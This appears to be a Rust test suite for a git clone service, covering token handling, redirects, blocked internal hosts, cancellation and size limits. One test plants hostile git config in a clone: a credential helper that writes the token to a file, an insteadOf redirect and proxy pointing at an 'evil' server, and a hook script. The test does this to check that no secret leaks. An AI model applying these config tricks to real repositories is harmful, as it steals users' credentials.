use std::path::PathBuf;
use std::time::Duration;

use switchyard_domain::credential::{GitCredential, GitCredentialOrigin, GitHost};
use switchyard_domain::remote::RemoteUrl;
use switchyard_domain::repo::ClonePhase;
use switchyard_domain::runner::{HadClone, RemoteAccess, WantedClone, WorkspaceSite};
use switchyard_domain::workspace::{MergeStrategy, branch_name};
use switchyard_domain::{ErrorKind, RepoId, Result, UserId, WorkspaceId};
use switchyard_runner::remote::{Remotes, Rules};
use switchyard_runner::workspace::{Clones, Workspaces};
use switchyard_testkit::git_server::{GitServer, Manner};
use switchyard_testkit::repo::{TempRepo, write};

use crate::harness::{open, spec};

/// `ada:ghp-canary-7f3a`, in base 64.
const BASIC: &str = "YWRhOmdocC1jYW5hcnktN2YzYQ==";
const TOKEN: &str = "ghp-canary-7f3a";

/// A server with a repository, and a runner's clones.
pub(crate) struct Bench {
    pub(crate) server: GitServer,
    pub(crate) repo: TempRepo,
    pub(crate) workspaces: Workspaces,
    pub(crate) clones: Clones,
    pub(crate) wanted: WantedClone,
}

pub(crate) fn rules() -> Rules {
    Rules { patience: Duration::from_secs(20), ..Rules::default() }
}

impl Bench {
    pub(crate) async fn new() -> Self {
        Self::with(rules()).await
    }

    async fn with(rules: Rules) -> Self {
        let (server, repo) = (GitServer::start().await, TempRepo::new());
        server.publish("project", &repo);
        let workspaces = open(&repo).await;
        let clones = clones(&repo, &workspaces, rules);
        let wanted = WantedClone {
            repo_id: RepoId::new(),
            attempt: 1,
            user_id: UserId::new(),
            name: "project".to_owned(),
            folder: None,
            access: RemoteAccess { url: url(&server, "project"), credential: None },
            branches: Vec::new(),
        };
        Self { server, repo, workspaces, clones, wanted }
    }

    pub(crate) async fn have(&self) -> Result<HadClone> {
        self.clones.have(self.wanted.clone()).await
    }

    async fn refused(&self) -> &'static str {
        self.have().await.unwrap_err().code
    }

    /// Shows the server this from now on.
    fn sign_in(&mut self, secret: &str) {
        let host = GitHost::new(&self.server.host()).unwrap();
        let credential = GitCredential::new(host, "ada", secret, GitCredentialOrigin::Entered).unwrap();
        self.wanted.access.credential = Some(credential);
    }

    /// Commits at the server, as somebody else.
    pub(crate) fn commit_there(&self, file: &str) -> String {
        self.repo.write(file, "theirs");
        let commit = self.repo.commit("Theirs");
        let there = self.server.path("project");
        self.repo.git(["push", "--quiet", &there.to_string_lossy(), "main"]);
        commit
    }

    /// What lies below the folder of the user's clones.
    pub(crate) fn leftovers(&self) -> Vec<String> {
        let repos = self.repo.folder().join("workspaces").join(self.wanted.user_id.to_string()).join("repos");
        let entries = std::fs::read_dir(repos).into_iter().flatten().flatten();
        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
    }

    pub(crate) fn site(&self, clone: &HadClone) -> WorkspaceSite {
        let id = WorkspaceId::new();
        let mut repo = spec("project", clone.path.as_ref());
        repo.repo_id = self.wanted.repo_id;
        let branch = branch_name("sy", id, "Fix it");
        WorkspaceSite { id, user_id: self.wanted.user_id, branch, repos: vec![repo], author: None }
    }
}

pub(crate) fn clones(repo: &TempRepo, workspaces: &Workspaces, rules: Rules) -> Clones {
    let remotes = Remotes::open(workspaces.git().clone(), repo.folder().join("scratch"), rules).unwrap();
    Clones::new(workspaces.clone(), remotes)
}

fn url(server: &GitServer, name: &str) -> RemoteUrl {
    RemoteUrl::new(&server.url(name)).unwrap()
}

#[tokio::test]
async fn a_remote_is_cloned_and_asked_for_again_it_is_brought_up_to_date() {
    let bench = Bench::new().await;
    bench.repo.git(["tag", "v1"]);
    bench.repo.git(["push", "--quiet", &bench.server.path("project").to_string_lossy(), "main:other", "v1"]);
    let had = bench.have().await.unwrap();
    assert_eq!((had.default_branch.as_str(), &had.outdated), ("main", &None));
    let path = PathBuf::from(&had.path);
    let git = |args: &[&str]| bench.repo.git_in(&path, args.iter().copied());
    assert_eq!(git(&["rev-parse", "main"]), bench.repo.git(["rev-parse", "main"]));
    assert_eq!(git(&["config", "remote.origin.url"]), bench.server.url("project"));
    assert_eq!(git(&["for-each-ref", "--format=%(refname)", "refs/tags"]), "refs/tags/v1");
    let own = git(&["for-each-ref", "--format=%(refname:short)", "refs/heads"]);
    assert_eq!(own, "main", "what nobody asked for is not there");
    let theirs = bench.commit_there("new");
    bench.server.git("project", ["branch", "-D", "other"]);
    let again = bench.clones.have(WantedClone { branches: vec!["main".to_owned()], ..bench.wanted.clone() });
    assert_eq!(again.await.unwrap(), had);
    assert_eq!(git(&["rev-parse", "main"]), theirs);
    let remote_branches = git(&["for-each-ref", "--format=%(refname:lstrip=3)", "refs/remotes/origin"]);
    assert_eq!(remote_branches, "HEAD\nmain");
    assert_eq!(bench.leftovers().len(), 1);
}

#[tokio::test]
async fn a_private_remote_is_cloned_with_its_token_which_is_left_nowhere() {
    let mut bench = Bench::new().await;
    bench.server.require(&[BASIC]);
    assert_eq!(bench.refused().await, "remote_refused");
    bench.sign_in("wrong");
    let error = bench.have().await.unwrap_err();
    assert_eq!(error.code, "remote_refused");
    assert!(error.message.contains("refused the token"), "{error}");
    assert!(!format!("{error:?}").contains("wrong"), "{error:?}");
    assert_eq!(bench.leftovers().len(), 0);
    bench.sign_in(TOKEN);
    let had = bench.have().await.unwrap();
    bench.commit_there("new");
    bench.have().await.unwrap();
    assert!(bench.server.heard().iter().any(|header| header.ends_with(BASIC)));
    let found = bench.repo.git_in(&bench.repo.folder(), ["grep", "--no-index", "-l", "-a", "x", "--", "."]);
    assert!(!found.is_empty(), "the search finds what is there");
    for canary in [TOKEN, BASIC] {
        let mut files = Vec::new();
        holding(&bench.repo.folder(), canary.as_bytes(), &mut files);
        assert!(files.is_empty(), "{canary}: {files:?}");
    }
    assert!(PathBuf::from(had.path).is_dir());
}

/// Files below a folder that hold these bytes.
fn holding(folder: &std::path::Path, bytes: &[u8], found: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            holding(&path, bytes, found);
        } else if std::fs::read(&path).unwrap_or_default().windows(bytes.len()).any(|part| part == bytes) {
            found.push(path);
        }
    }
}

#[tokio::test]
async fn each_thing_that_a_remote_can_do_wrong_has_its_own_code_and_leaves_nothing_behind() {
    let mut bench = Bench::with(Rules { patience: Duration::from_secs(2), ..Rules::default() }).await;
    bench.server.publish_empty("empty");
    for (name, code) in [("nowhere", "remote_not_found"), ("empty", "remote_empty")] {
        bench.wanted.access.url = url(&bench.server, name);
        assert_eq!(bench.refused().await, code, "{name}");
    }
    bench.wanted.access.url = url(&bench.server, "project");
    for (manner, code) in [
        (Manner::Failing(403), "remote_refused"),
        (Manner::Failing(500), "remote_unreachable"),
        (Manner::Failing(200), "not_a_remote"),
        (Manner::Breaking(300), "remote_unreachable"),
        (Manner::Moved("http://127.0.0.1:1".to_owned()), "remote_moved"),
        (Manner::Silent, "clone_timed_out"),
    ] {
        bench.server.serve(manner.clone());
        assert_eq!(bench.refused().await, code, "{manner:?}");
    }
    bench.wanted.access.url = RemoteUrl::new("http://127.0.0.1:1/x.git").unwrap();
    let error = bench.have().await.unwrap_err();
    assert_eq!((error.kind, error.code), (ErrorKind::Unavailable, "remote_unreachable"));
    bench.wanted.access.url = RemoteUrl::new("http://example.org/x.git").unwrap();
    assert_eq!(bench.refused().await, "insecure_remote");
    assert_eq!(bench.leftovers(), [""; 0]);
    assert_eq!(std::fs::read_dir(bench.repo.folder().join("scratch")).unwrap().count(), 0);
}

#[tokio::test]
async fn a_redirect_to_another_host_takes_no_token_along() {
    let mut bench = Bench::new().await;
    let elsewhere = GitServer::start().await;
    elsewhere.publish("project", &bench.repo);
    bench.sign_in(TOKEN);
    bench.server.serve(Manner::Moved(format!("http://{}", elsewhere.host())));
    assert_eq!(bench.refused().await, "remote_moved");
    assert_eq!(elsewhere.requests(), 0);
}

#[tokio::test]
async fn one_of_several_users_reaches_no_host_of_the_operators_own_network() {
    let mut bench = Bench::with(Rules { apart: true, ..rules() }).await;
    assert_eq!(bench.refused().await, "insecure_remote");
    for own in ["https://127.0.0.1/x", "https://localhost/x", "https://[::1]/x", "https://169.254.169.254/x"]
    {
        bench.wanted.access.url = RemoteUrl::new(own).unwrap();
        assert_eq!(bench.refused().await, "remote_forbidden", "{own}");
    }
    assert_eq!(bench.server.requests(), 0);
    let told = format!("http://{}", bench.server.host());
    let rules = Rules { apart: true, exceptions: vec![told.parse().unwrap()], ..rules() };
    let bench = Bench { clones: clones(&bench.repo, &bench.workspaces, rules), ..bench };
    let wanted = WantedClone {
        access: RemoteAccess { url: url(&bench.server, "project"), credential: None },
        ..bench.wanted.clone()
    };
    bench.clones.have(wanted).await.unwrap();
}

/// A repository that takes a while to send.
fn large(repo: &TempRepo) {
    let mut noise = 0x2545_f491_4f6c_dd1d_u64;
    let bytes: Vec<u8> = std::iter::repeat_with(|| {
        noise ^= noise << 13;
        noise ^= noise >> 7;
        noise ^= noise << 17;
        noise.to_le_bytes()
    })
    .take(512 * 1024)
    .flatten()
    .collect();
    repo.write("large", bytes);
    repo.commit("Large");
}

#[tokio::test]
async fn progress_is_told_while_it_lasts_and_cancelling_leaves_nothing() {
    let bench = Bench::new().await;
    large(&bench.repo);
    bench.server.publish("large", &bench.repo);
    bench.server.serve(Manner::Slow(16 * 1024));
    let mut wanted = bench.wanted.clone();
    wanted.access.url = url(&bench.server, "large");
    assert_eq!(bench.clones.progress(wanted.repo_id), None);
    let cloning = tokio::spawn({
        let (clones, wanted) = (bench.clones.clone(), wanted.clone());
        async move { clones.have(wanted).await }
    });
    let received = async {
        loop {
            match bench.clones.progress(wanted.repo_id) {
                Some(now) if now.phase == ClonePhase::Receiving && now.bytes > 0 => return now,
                _ => tokio::time::sleep(Duration::from_millis(10)).await,
            }
        }
    };
    let now = tokio::time::timeout(Duration::from_secs(30), received).await.unwrap();
    assert!(now.percent.is_some_and(|percent| percent <= 100), "{now:?}");
    assert_eq!(bench.leftovers().len(), 1, "it is made beside its place");
    bench.clones.cancel(wanted.repo_id, 1);
    assert_eq!(cloning.await.unwrap().unwrap_err().code, "clone_cancelled");
    assert_eq!((bench.leftovers().len(), bench.clones.progress(wanted.repo_id)), (0, None));
    bench.server.serve(Manner::Usual);
    wanted.attempt = 2;
    bench.clones.have(wanted).await.unwrap();
}

#[tokio::test]
async fn an_attempt_that_was_cancelled_does_nothing_though_it_comes_later_and_a_new_one_ends_the_old() {
    let bench = Bench::new().await;
    let mut wanted = bench.wanted.clone();
    bench.clones.cancel(wanted.repo_id, 1);
    let error = bench.clones.have(wanted.clone()).await.unwrap_err();
    assert_eq!((error.code, bench.server.requests()), ("clone_cancelled", 0));
    bench.server.serve(Manner::Silent);
    wanted.attempt = 2;
    let hangs = tokio::spawn({
        let (clones, wanted) = (bench.clones.clone(), wanted.clone());
        async move { clones.have(wanted).await }
    });
    while bench.server.requests() == 0 {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    bench.server.serve(Manner::Usual);
    wanted.attempt = 3;
    bench.clones.have(wanted).await.unwrap();
    assert_eq!(hangs.await.unwrap().unwrap_err().code, "clone_cancelled");
}

#[tokio::test]
async fn a_clone_that_grows_too_large_is_given_up() {
    let mut bench = Bench::with(Rules { most_bytes: 1 << 20, ..rules() }).await;
    large(&bench.repo);
    bench.server.publish("large", &bench.repo);
    bench.server.serve(Manner::Slow(128 * 1024));
    bench.wanted.access.url = url(&bench.server, "large");
    assert_eq!(bench.refused().await, "clone_too_large");
    assert_eq!(bench.leftovers(), [""; 0]);
}

#[tokio::test]
async fn a_clone_that_a_kill_left_half_made_is_removed_and_made_anew() {
    let bench = Bench::new().await;
    let repos = bench.repo.folder().join("workspaces").join(bench.wanted.user_id.to_string()).join("repos");
    let half = repos.join(format!(".cloning-{}", bench.wanted.repo_id));
    write(&half.join(".git/objects/pack/tmp_pack_x"), "half");
    write(&bench.repo.folder().join("scratch/killed/config"), "x");
    let anew = clones(&bench.repo, &bench.workspaces, rules());
    assert_eq!(bench.leftovers(), [""; 0]);
    write(&half.join(".git/objects/pack/tmp_pack_x"), "half");
    anew.have(bench.wanted.clone()).await.unwrap();
    assert_eq!(bench.leftovers().len(), 1);
    assert_eq!(std::fs::read_dir(bench.repo.folder().join("scratch")).unwrap().count(), 0);
}

#[tokio::test]
async fn a_remote_that_is_away_leaves_what_was_fetched_before_and_says_so() {
    let bench = Bench::new().await;
    bench.have().await.unwrap();
    bench.server.serve(Manner::Failing(503));
    let outdated = bench.have().await.unwrap().outdated.unwrap();
    assert!(outdated.contains("cannot be reached") && outdated.contains("fetched before"), "{outdated}");
}

#[tokio::test]
async fn what_an_agent_writes_into_a_clone_leads_the_token_nowhere_else() {
    let mut bench = Bench::new().await;
    bench.server.require(&[BASIC]);
    bench.sign_in(TOKEN);
    let had = bench.have().await.unwrap();
    let evil = GitServer::start().await;
    evil.publish("project", &bench.repo);
    let stolen = bench.repo.folder().join("stolen");
    let clone = PathBuf::from(&had.path);
    let set = |key: &str, value: &str| bench.repo.git_in(&clone, ["config", key, value]);
    let here = format!("http://{}/", bench.server.host());
    let there = format!("http://{}/", evil.host());
    set(&format!("url.{there}.insteadOf"), &here);
    set("remote.origin.url", &evil.url("project"));
    set("http.proxy", &format!("http://{}", evil.host()));
    set(&format!("http.{here}.proxy"), &format!("http://{}", evil.host()));
    set("http.extraHeader", "X-Evil: 1");
    let thief = format!("!cat > {}; :", stolen.display());
    set("credential.helper", &thief);
    set(&format!("credential.{here}.helper"), &thief);
    set("core.askPass", &format!("touch {}", stolen.display()));
    write(
        &clone.join(".git/hooks/reference-transaction"),
        format!("#!/bin/sh\ntouch {}\n", stolen.display()),
    );
    let mode = <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755);
    std::fs::set_permissions(clone.join(".git/hooks/reference-transaction"), mode).unwrap();
    let theirs = bench.commit_there("new");
    assert_eq!(bench.have().await.unwrap().outdated, None);
    assert_eq!(bench.repo.git_in(&clone, ["rev-parse", "main"]), theirs);
    let site = bench.site(&had);
    bench.workspaces.make(&site, &[]).await.unwrap();
    let by_url = vec![(bench.wanted.repo_id, bench.wanted.access.clone())];
    bench.workspaces.push_by_url(&site, None, Some(bench.clones.remotes()), by_url).await.unwrap();
    assert!(!stolen.exists());
    assert_eq!(evil.requests(), 0);
    assert_eq!(bench.server.git("project", ["rev-parse", &site.branch]), theirs);
}

#[tokio::test]
async fn work_in_a_clone_is_merged_and_reaches_its_remote() {
    let mut bench = Bench::new().await;
    bench.server.require(&[BASIC]);
    bench.sign_in(TOKEN);
    let had = bench.have().await.unwrap();
    let site = bench.site(&had);
    bench.workspaces.make(&site, &[]).await.unwrap();
    write(&bench.workspaces.folder(&site).join("project/ours"), "ours");
    bench.workspaces.merge(&site, MergeStrategy::Merge, "Ours").await.unwrap();
    let push = async |access: &RemoteAccess| {
        let by_url = vec![(bench.wanted.repo_id, access.clone())];
        bench.workspaces.push_by_url(&site, None, Some(bench.clones.remotes()), by_url).await
    };
    let stranger = RemoteAccess { credential: None, ..bench.wanted.access.clone() };
    assert_eq!(push(&stranger).await.unwrap_err().code, "remote_refused");
    let pushed = push(&bench.wanted.access).await.unwrap();
    assert_eq!((pushed.remote, pushed.branch), (bench.server.url("project"), site.branch.clone()));
    assert_eq!(bench.server.git("project", ["show", &format!("{}:ours", site.branch)]), "ours");
    // What was merged here stays when the remote has nothing newer, and is told of when it has.
    assert_eq!(bench.have().await.unwrap().outdated, None);
    bench.commit_there("new");
    let outdated = bench.have().await.unwrap().outdated.unwrap();
    assert!(outdated.contains("the other way round"), "{outdated}");
}
